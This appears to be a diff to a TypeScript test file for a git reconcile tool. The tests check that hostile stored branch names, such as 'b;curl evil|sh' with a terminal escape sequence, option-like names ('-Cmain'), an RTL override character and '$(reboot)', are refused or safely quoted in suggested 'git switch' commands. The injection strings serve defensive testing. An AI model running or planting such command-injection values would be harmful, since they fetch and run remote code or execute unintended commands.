@@ -30,21 +30,28 @@ function facts(over: Partial<ReconcileFacts> = {}): ReconcileFacts {
 }
 
 describe('planReconcile: branch', () => {
-  it("quotes a stored branch name for the shell, and the report prints it without raw controls", () => {
-    const hostile = 'b;curl evil|sh \x1b]0;owned\x07';
-    const r = planReconcile(record({ branch: hostile }), facts());
-    expect(r.branch.fix).toBe("git switch 'b;curl evil|sh \x1b]0;owned\x07'");
-    const text = renderReconcile(r, { color: false, maxPaths: 20, heading: false });
-    expect(text).toContain("fix: git switch 'b;curl evil|sh \\x1b]0;owned\\x07'");
-    expect(text).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
+  it('prints no command for a stored branch name git would refuse, only a warning, and nothing raw', () => {
+    for (const hostile of ['b;curl evil|sh \x1b]0;owned\x07', '-Cmain', '--orphan=x', 'a..b', 'x.lock', 'HEAD', 'b\u202ettx']) {
+      const r = planReconcile(record({ branch: hostile }), facts());
+      expect(r.branch, hostile).toMatchObject({ verdict: 'mismatch', fix: null, unsafeName: true });
+      const text = renderReconcile(r, { color: false, maxPaths: 20, heading: false });
+      expect(text).not.toContain('fix: git switch');
+      expect(text).toContain("warning: no command printed: git would not take this branch name as it is (or it starts with '-')");
+      expect(text).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
+    }
+  });
+
+  it('quotes a name git accepts that the shell would not take bare, after --', () => {
+    const r = planReconcile(record({ branch: 'feat/$(reboot)&x' }), facts());
+    expect(r.branch.fix).toBe("git switch -- 'feat/$(reboot)&x'");
   });
 
   it.each([
     ['match', facts(), 'match', null],
-    ['another branch', facts({ currentBranch: 'other' }), 'mismatch', 'git switch main'],
-    ['gone, one remote has it', facts({ currentBranch: 'other', branchExists: false, remoteBranches: ['origin/main'] }), 'missing', 'git switch main'],
-    ['gone, two remotes', facts({ currentBranch: null, branchExists: false, remoteBranches: ['a/main', 'b/main'] }), 'missing', 'git switch -c main --track a/main'],
-    ['gone everywhere', facts({ currentBranch: 'other', branchExists: false }), 'missing', 'git fetch && git switch main'],
+    ['another branch', facts({ currentBranch: 'other' }), 'mismatch', 'git switch -- main'],
+    ['gone, one remote has it', facts({ currentBranch: 'other', branchExists: false, remoteBranches: ['origin/main'] }), 'missing', 'git switch -- main'],
+    ['gone, two remotes', facts({ currentBranch: null, branchExists: false, remoteBranches: ['a/main', 'b/main'] }), 'missing', 'git switch -c main --track -- a/main'],
+    ['gone everywhere', facts({ currentBranch: 'other', branchExists: false }), 'missing', 'git fetch && git switch -- main'],
   ] as const)('%s → %s', (_name, f, verdict, fix) => {
     const r = planReconcile(record(), f);
     expect(r.branch).toMatchObject({ verdict, fix });
